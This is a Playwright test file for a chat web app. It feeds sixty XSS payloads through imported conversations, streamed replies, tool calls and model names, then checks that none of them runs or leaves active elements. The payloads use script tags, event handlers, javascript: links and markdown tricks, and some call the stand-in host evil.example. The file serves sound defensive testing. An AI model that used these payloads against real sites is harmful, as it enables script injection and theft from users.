using System.Text.Json;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace GptOss.AspNetCore.Tests.Page;

/// <summary>Text is text, whoever wrote it: no script runs, nothing is asked for, no policy has to step in.</summary>
[Collection(SharedBrowser.Name)]
[Trait("speed", "slow")]
public sealed class XssTests(Chromium chromium)
{
    // Each would set window.pwned, or ask http://evil.example for something.
    private static readonly string[] Attacks =
    [
        "<script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "<svg><script>window.pwned=1</script></svg>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'>",
        "<iframe src=javascript:parent.pwned=1>",
        "<body onload=window.pwned=1>",
        "<details open ontoggle=window.pwned=1>",
        "<video><source onerror=window.pwned=1>",
        "<input autofocus onfocus=window.pwned=1>",
        "<marquee onstart=window.pwned=1>",
        "<math><a xlink:href=javascript:window.pwned=1>x</a></math>",
        "<object data=javascript:window.pwned=1>",
        "<embed src=javascript:window.pwned=1>",
        "<form action=javascript:window.pwned=1><button>x</button></form>",
        "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<link rel=stylesheet href=http://evil.example/>",
        "<style>@import 'http://evil.example/';</style>",
        "<div style=\"background:url(http://evil.example/)\">x</div>",
        "<img src=http://evil.example/a.png>",
        "<audio src=http://evil.example/a.mp3 autoplay>",
        "</title><script>window.pwned=1</script>",
        "</textarea><script>window.pwned=1</script>",
        "</script><script>window.pwned=1</script>",
        "\"><script>window.pwned=1</script>",
        "'><img src=x onerror=window.pwned=1>",
        "--><script>window.pwned=1</script>",
        "]]><script>window.pwned=1</script>",
        "<!--<script>window.pwned=1//-->",
        "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
        "<template><script>window.pwned=1</script></template>",
        "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<img src=x oneonerrorrror=window.pwned=1>",
        "&lt;script&gt;window.pwned=1&lt;/script&gt;",
        "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
        "[a](javascript:window.pwned=1)",
        "[a](JaVaScRiPt:window.pwned=1)",
        "[a](\tjavascript:window.pwned=1)",
        "[a](java\nscript:window.pwned=1)",
        "[a](javascript&colon;window.pwned=1)",
        "[a](&#106;avascript:window.pwned=1)",
        "[a](data:text/html,<script>opener.pwned=1</script>)",
        "[a](vbscript:window.pwned=1)",
        "[a](https://a.example\"onmouseover=window.pwned=1)",
        "[a](https://a.example/ \"\" onclick=window.pwned=1 \"\")",
        "![a](http://evil.example/a.png)",
        "![a](javascript:window.pwned=1)",
        "![a\" onerror=\"window.pwned=1](http://evil.example/x)",
        "[![a](http://evil.example/a.png)](javascript:window.pwned=1)",
        "<javascript:window.pwned=1>",
        "<https://a.example/\" onclick=window.pwned=1>",
        "https://a.example/\"onclick=\"window.pwned=1",
        "```\"><img src=x onerror=window.pwned=1>\ncode\n```",
        "```js\n</code></pre><script>window.pwned=1</script>\n```",
        "| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |",
        "> - # <img src=x onerror=window.pwned=1>",
        "`<img src=x onerror=window.pwned=1>`",
        "{{constructor.constructor('window.pwned=1')()}}",
    ];

    [Fact]
    public Task No_attack_in_a_kept_conversation_does_anything() =>
        chromium.UseAsync(async page =>
        {
            Assert.Equal(60, Attacks.Length);
            await page.OpenSettingsAsync();
            await page
                .Settings.GetByLabel("Import")
                .SetInputFilesAsync(
                    new FilePayload { Name = "a.json", Buffer = JsonSerializer.SerializeToUtf8Bytes(Export()) }
                );
            await ChatPage.ShowsAsync(page.Settings, "60 taken.");
            await page.Button("Done").ClickAsync();
            await Expect(page.Conversations).ToHaveCountAsync(60);
            // Every conversation is opened, and everything that is folded unfolded.
            await page.Page.EvaluateAsync(
                """
                async () => {
                    const count = document.querySelectorAll("#conversations li").length;
                    for (let i = 0; i < count; i++) {
                        const button = document.querySelectorAll("#conversations li > button:first-child")[i];
                        button.click();
                        const title = document.getElementById("title");
                        while (title.textContent !== button.title) await new Promise((done) => setTimeout(done, 2));
                        for (const folded of document.querySelectorAll("details")) folded.open = true;
                        await new Promise(requestAnimationFrame);
                        await new Promise(requestAnimationFrame);
                    }
                }
                """
            );
            await ChatPage.ShowsAsync(page.Page.Locator("#title"), "pwned");
            await AssertHarmlessAsync(page);
        });

    [Fact]
    public Task No_attack_in_a_stream_does_anything() =>
        chromium.UseAsync(async page =>
        {
            await page.SwitchOnAsync("Calculator");
            string Quoted(string text) => JsonSerializer.Serialize(text);
            await page.ScriptAsync([
                .. Attacks.SelectMany(attack =>
                    (string[])
                        [
                            ChatPage.Delta($"\"reasoning\":{Quoted(attack + "\n\n")}"),
                            ChatPage.Delta($"\"content\":{Quoted(attack + "\n\n")}"),
                            ChatPage.Delta(
                                $"\"tool_calls\":[{{\"id\":\"c\",\"function\":{{\"name\":{Quoted(attack)},"
                                    + $"\"arguments\":{Quoted(attack)}}}}}]"
                            ),
                        ]
                ),
                $$$"""{"model":{{{Quoted(Attacks[0])}}},"error":{"message":{{{Quoted(string.Concat(Attacks))}}}}}""",
            ]);
            await page.AskAsync(string.Join('\n', Attacks));
            await page.Page.EvaluateAsync(
                "document.querySelectorAll('details').forEach((folded) => folded.open = true)"
            );
            await ChatPage.ShowsAsync(page.Answer.Locator(".error"), Attacks[^1]);
            Assert.Equal(60, await page.Answer.GetByLabel("Arguments").CountAsync());
            // Names of models come from the server too.
            await page.Page.RouteAsync("**/v1/models", route =>
                route.FulfillAsync(new() { Body = $$"""{"data":[{"id":{{Quoted(string.Concat(Attacks))}}}]}""" })
            );
            await page.Page.ReloadAsync();
            await ChatPage.ShowsAsync(page.Page.Locator("#model"), Attacks[0]);
            await AssertHarmlessAsync(page);
        });

    private static async Task AssertHarmlessAsync(ChatPage page)
    {
        Assert.True(await page.Page.EvaluateAsync<bool>("window.pwned === undefined"));
        // What would come alive later: foreign elements, handlers, links with another scheme.
        int alive = await page.Page.EvaluateAsync<int>(
            """
            [...document.querySelectorAll("main *, aside *")].filter((e) =>
                ["SCRIPT", "IMG", "IFRAME", "OBJECT", "EMBED", "STYLE", "LINK", "BASE", "META", "VIDEO"].includes(e.tagName)
                || [...e.attributes].some((a) => a.name.startsWith("on"))
                || (e.tagName === "A" && !/^(https?|mailto):$/.test(e.protocol))
                || (e.tagName === "A" && e.rel !== "noopener noreferrer nofollow")).length
            """
        );
        Assert.Equal(0, alive);
    }

    private static object Export() =>
        new
        {
            format = "gptoss-conversations",
            version = 1,
            conversations = Attacks.Select(
                (attack, at) =>
                    new
                    {
                        id = $"{attack}{at}",
                        title = attack,
                        messages = new object[]
                        {
                            new
                            {
                                id = "q" + attack,
                                parent = (string?)null,
                                role = "user",
                                text = attack,
                            },
                            new
                            {
                                id = "a" + attack,
                                parent = "q" + attack,
                                role = "assistant",
                                error = attack,
                                parts = new object[]
                                {
                                    new
                                    {
                                        type = "reasoning",
                                        text = attack,
                                        seconds = 1,
                                    },
                                    new
                                    {
                                        type = "call",
                                        id = attack,
                                        name = attack,
                                        arguments = attack,
                                        result = attack,
                                    },
                                    new { type = "text", text = attack },
                                },
                            },
                        },
                    }
            ),
        };
}
